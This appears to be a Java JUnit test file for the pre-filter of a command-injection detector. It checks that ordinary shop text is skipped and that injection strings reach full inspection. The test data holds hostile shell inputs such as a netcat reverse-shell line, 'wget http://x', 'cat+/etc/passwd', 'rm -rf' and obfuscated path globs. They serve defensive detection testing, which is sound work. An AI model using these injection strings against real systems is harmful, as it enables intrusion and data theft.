package dev.warden.detect.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.testing.PrefilterEdges;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The pre-filter of {@link CommandInjectionDetector}: skips ordinary values, never a value {@code inspect} reports. */
class CmdiPrefilterTest {

  private final CommandInjectionDetector detector = new CommandInjectionDetector();

  @ParameterizedTest
  @ValueSource(strings = {"sort", "zip", "time", "price:asc", "application/json, text/plain, */*", "https://shop.example.com/cart?step=2", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "en-GB,en;q=0.9,de;q=0.8",
      "Thanks!", "Ring me at +44 20 7946 0958 if out of stock", "Call me at +44 20 7946 0958 if out of stock",
      "Call me at nine", "time flies", "(sort by price", "zip the bag, please", "Sort by price, then (name)", "Deliver between 9 and 5; ring twice.",
      "for long distances, if ever",
      // a command word in argument position, before any separator: "at", "time", "sort"
      "Machine washable at 30 degrees; dry flat. Recycled polyester upper (65%), rubber outsole.",
      "Size 42 (EU), at the time of order, sort by colour; thanks", "Size 9; ring at the time of delivery",
      "Recycled polyester (65%), for long distances",
      // a program name after a separator, outside a command position, without a strong argument
      "Leak-proof lid with carry loop; fits most cup holders. Dishwasher safe (lid: top rack only).",
      "Pack of two; the top one", "loop; at the top",
      // prose past the first word, and numbers after an operator
      "Weight: 310 g in size M. Waterproof rating 20,000 mm, breathability 15,000 g/m2/24h (taped) x.y",
      "colours; sizes S (36-38), M (39-42) and L (43-46).", "a; 537.36 (KHTML, like Gecko) 126.0",
      "Dishwasher safe (lid: top rack only); x86_64 12ping 3whoami"})
  void mayMatch_ordinaryValues_skipsThem(String v) {
    PrefilterEdges.skips(detector, v);
  }

  @ParameterizedTest
  @ValueSource(strings = {"whoami", "ifconfig.exe", "sort -r /etc/x", "a; id", "x|/usr/bin/id", "code=ansible-console", "/???/??t /???/p??s??", "python3.11 -c x", "x && Whoami", "cmd /c dir", "system('id')",
      "!-1!-2", "~+", "cat+/etc/passwd", "FOR %i IN (a) DO x", "IF EXIST x y", "g++ -o x y.c",
      // command positions and operators the scan must see as the shell lexer does
      "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
      "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x",
      "lid; a top -b", "call whoami", "time sleep 5", "sleep 5", "sort -r x", "ping 10.0.0.1 x", "net user x",
      "reg add x", "cmd /c x", "(ping 1.2.3.4 x", "Call 12", "(sleep 12", "zip\n", "top;", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
  void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
    PrefilterEdges.passes(detector, v);
  }

  /** Command words, arguments and shell punctuation, glued at random: the filter's proof, checked. */
  private static final String[] WORDS = {"id", "whoami", "cat", "ls", "at", "sort", "time", "nohup", "sudo",
      "env", "x=1", "python3", "-c", "/etc/passwd", "/usr/bin/id", "cmd", "/c", "dir", "for", "if", "exist",
      "ping", "nc", "-e", "sh", "wget", "http://x", "zip", "ifconfig", "net", "user", "echo", "a", "b.c", "1",
      "rm", "-rf", "uname", "}", ".sh", "@id", "g++", "perl", "dry", "flat", "Deliver", "in", "(a)", "do", "%i", "==", "errorlevel", "top", "/d"};
  private static final String[] GLUE = {" ", " ", ";", "|", "||", "&&", "&", "\n", "\r", "(", ")", ">", ">(",
      ">>", ">&", "+", "/", "=", ",", ".", "-", "#", "\t", "}", ":", "%", "*", "?"};
  private static final String CHARS = " ;})(>/=+&|\n*?.@!#%-\t\f\u000bid";

  static String shellText(Random r) {
    StringBuilder sb = new StringBuilder();
    if (r.nextInt(4) == 0) {
      sb.append(GLUE[r.nextInt(GLUE.length)]);
    }
    for (int j = 0, len = 1 + r.nextInt(6); j < len; j++) {
      for (int q = r.nextInt(3) == 0 ? 1 + r.nextInt(3) : 0; q > 0; q--) {
        sb.append(CHARS.charAt(r.nextInt(CHARS.length())));
      }
      sb.append(WORDS[r.nextInt(WORDS.length)]);
      if (j < len - 1 || r.nextInt(3) == 0) {
        sb.append(GLUE[r.nextInt(GLUE.length)]);
      }
    }
    return sb.toString();
  }

  @Test
  void mayMatch_randomShellText_neverHidesAFinding() {
    Random r = new Random(8);
    PrefilterEdges.Tally t = PrefilterEdges.neverHides(detector, 60_000, () -> shellText(r));
    assertThat(t.findings()).as("the generator makes attacks").isGreaterThan(10_000);
  }

  /** Prose words, program names and the arguments that make them strong, after an operator. */
  private static final String[] CHAIN_WORDS = {"rack", "only", "lid:", "fits", "top", "tail", "head", "ping",
      "net", "reg", "user", "add", "query", "whoami", "Uname", "1.2.3.4", "10.0.0", "12", "a_b", "c,d", "x-y",
      "v1.2", "-n", "--all", "/etc", "~/x", "http://x", "c:x", "x=/y", "%a%", "%a", "Sort", "ls", "time", "at",
      "id", "sleep", "(a)", "sh", "nc", "curl", "tee"};
  private static final String[] CHAIN_GLUE = {" ", " ", " ", "  ", "\t", "; ", ";", " | ", "|", "&", "&&",
      ")", " (", "(", ".", ", ", ":", "/", "=", "+", "\n", " #", ">", "<", "}", "\f", "-", "%", "@", "!"};

  /**
   * Program names after a separator but outside a command position ({@code ; fits most cup holders
   * (lid: top rack only)}) need a strong argument to fire: the filter's reading of the next token, checked.
   */
  static String chainText(Random r) {
    StringBuilder sb = new StringBuilder();
    for (int j = 0, len = 2 + r.nextInt(7); j < len; j++) {
      sb.append(CHAIN_WORDS[r.nextInt(CHAIN_WORDS.length)]);
      if (j < len - 1 || r.nextInt(3) == 0) {
        sb.append(CHAIN_GLUE[r.nextInt(CHAIN_GLUE.length)]);
      }
    }
    return sb.toString();
  }

  @Test
  void mayMatch_randomProgramAfterOperator_neverHidesAFinding() {
    Random r = new Random(11);
    PrefilterEdges.Tally t = PrefilterEdges.neverHides(detector, 60_000, () -> chainText(r));
    assertThat(t.findings()).as("the generator makes attacks").isGreaterThan(5_000);
  }

  /** First words: programs, English words, wrappers, Windows words and unmistakable ones. */
  private static final String[] START_WORDS = {"call", "Call", "time", "sort", "zip", "cat", "sleep", "env", "nohup",
      "top", "ping", "net", "reg", "sc", "cmd", "cmd.exe", "for", "if", "python3", "zip.exe", ".cat", "id", "ID",
      "whoami", "echo", "start", "watch", "Deliver", "tail", "head", "cc", "dir", "curl"};
  /** What may follow: prose, numbers, addresses, table words, sub-commands, flags, paths. */
  private static final String[] START_ARGS = {"me", "at", "9", "12345", "1.2.3.4", "10.0.0", "v1.2", "1a", "a_b",
      "c,d", "x-y", "user", "add", "query", "create", "whoami", "id", "ls", "uname", "-n", "--all", "/c", "/etc/x",
      "~/x", "http://x", "c:x", "x=/y", "%a%", "#x", ".sh", "time", "sleep", "exist", "%i", "the", "Me"};
  private static final String[] START_GLUE = {" ", " ", " ", "  ", "\t", ";", " ; ", "|", "&", "\n", "(", ")",
      ">", "/", "=", "+", ",", ".", ":", "#", " #", "-", "\f", "}", "?", "*", "!"};

  /**
   * A first word that is a table word, the next word and a tail. With no shell syntax in it, a
   * program or English word at the start fires only with a strong argument: the filter's reading
   * of the next word, checked.
   */
  static String startText(Random r) {
    StringBuilder sb = new StringBuilder();
    if (r.nextInt(8) == 0) {
      sb.append(r.nextBoolean() ? " " : "(");
    }
    sb.append(START_WORDS[r.nextInt(START_WORDS.length)]);
    for (int j = 0, len = 1 + r.nextInt(4); j < len; j++) {
      sb.append(r.nextInt(3) == 0 ? START_GLUE[r.nextInt(START_GLUE.length)] : " ");
      sb.append(r.nextInt(4) == 0 ? START_WORDS[r.nextInt(START_WORDS.length)] : START_ARGS[r.nextInt(START_ARGS.length)]);
    }
    if (r.nextInt(4) == 0) {
      sb.append(START_GLUE[r.nextInt(START_GLUE.length)]);
    }
    return sb.toString();
  }

  @Test
  void mayMatch_randomCommandWordAtStart_neverHidesAFinding() {
    Random r = new Random(21);
    PrefilterEdges.Tally t = PrefilterEdges.neverHides(detector, 60_000, () -> startText(r));
    assertThat(t.findings()).as("the generator makes attacks").isGreaterThan(10_000);
    assertThat(t.skipped()).as("and values the filter skips").isGreaterThan(5_000);
  }

  /** Prose, numbers and command words with the punctuation prose and shell share. */
  private static final String[] PROSE_WORDS = {"Size", "dry", "flat", "sole", "36-38", "65%", "537.36", "x86_64",
      "9", "1a", "whoami", ".uname", "@id", "!ls", "id", "top", "rack", "sort", "ping", "1.2.3.4", "nc", "-e", "sh",
      "uname2", "python3.11", "2python", "g", "system", "exec", "phpinfo", "lid:", "caf\u00e9", "\u212aill", "for",
      "if", "%i", "exist", "==", "in", "do", "cat", "/etc/passwd", "/usr/bin/id", "a=b", "cmd", "/c", "/???/??t",
      "c?t", "wh*ami", "/bin/c?t", "g++"};
  private static final String[] PROSE_GLUE = {" ", " ", " ", " ", ", ", ". ", ".", ": ", "/", "=", " (", "(", ") ",
      ")", "}", " }", "@", "!", "+", " + ", "?", "*", "; ", ";", "\n", "|", "&", ">", " >(", "#", "\t", "-", "'",
      "$", "\\", "[", "{", "<", "\u00a0", "\u0130", "()", "( ) ", "('", "++"};

  /** Prose-like text with shell syntax and command words sprinkled in. */
  static String proseText(Random r) {
    StringBuilder sb = new StringBuilder();
    for (int j = 0, len = 2 + r.nextInt(9); j < len; j++) {
      sb.append(r.nextInt(3) == 0 ? PROSE_WORDS[r.nextInt(PROSE_WORDS.length)] : PROSE_WORDS[r.nextInt(4)]);
      if (j < len - 1 || r.nextInt(3) == 0) {
        sb.append(r.nextInt(3) == 0 ? PROSE_GLUE[r.nextInt(PROSE_GLUE.length)] : " ");
      }
    }
    return sb.toString();
  }

  /**
   * Prose before any operator is skipped in a tight loop, words that start with a digit without a
   * look-up: the filter's reading of prose with shell characters and command words, checked.
   */
  @Test
  void mayMatch_randomProse_neverHidesAFinding() {
    Random r = new Random(33);
    PrefilterEdges.Tally t = PrefilterEdges.neverHides(detector, 60_000, () -> proseText(r));
    assertThat(t.findings()).as("the generator makes attacks").isGreaterThan(2_000);
    assertThat(t.skipped()).as("and values the filter skips").isGreaterThan(5_000);
  }

  @Test
  void tableWords_allStartWithALetter_asTheDigitRuleAssumes() {
    for (String w : Commands.words()) {
      assertThat(w.charAt(0)).as(w).isBetween('a', 'z');
    }
  }
}
